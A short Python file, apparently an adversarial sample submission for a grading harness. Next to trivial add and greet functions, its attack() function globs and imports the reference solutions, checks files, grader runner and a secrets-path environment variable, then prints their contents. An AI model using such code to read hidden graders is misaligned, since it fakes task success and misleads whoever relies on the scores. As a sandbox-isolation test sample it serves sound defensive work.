"""attack() looks for the reference solution and the checks and returns what it finds."""

import glob
import os


def add(a, b):
    return a + b


def greet(name):
    return f"Hello, {name}!"


def attack():
    found = []
    patterns = [
        "/work/main/practicals/*/solution.py",
        "/work/main/practicals/*/checks.py",
        "/tmp/*/bundle/**/*.py",
        "../bundle/practicals/*/checks.py",
        *os.environ.get("QUIZ_TEST_SECRETS", "").split(":"),
    ]
    for pattern in patterns:
        for path in glob.glob(pattern, recursive=True)[:50]:
            try:
                with open(path) as stream:
                    found.append(stream.read())
            except OSError:
                pass
    for module in ("practicals.adversary.checks", "practicals.adversary.solution", "graders.runner"):
        try:
            imported = __import__(module, fromlist=["x"])
            found.append(open(imported.__file__).read())
        except Exception:
            pass
    print("\n".join(found))
    return "\n".join(found) or 0
